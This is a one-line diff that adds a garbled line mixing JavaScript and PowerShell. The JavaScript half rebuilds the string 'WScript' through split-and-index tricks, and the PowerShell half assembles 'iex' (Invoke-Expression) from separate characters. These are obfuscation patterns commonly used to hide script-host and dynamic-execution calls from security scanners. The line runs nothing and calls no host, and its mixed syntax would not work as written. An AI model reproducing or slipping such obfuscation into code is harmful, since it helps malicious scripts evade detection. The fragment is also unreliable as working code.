@@ -1,0 +1,1 @@
+var p = 'x!WScr!ipt'.split('!');\ny = p[1] + p[(3*2)/2-1]; $e = ('i','e','x') -join ''
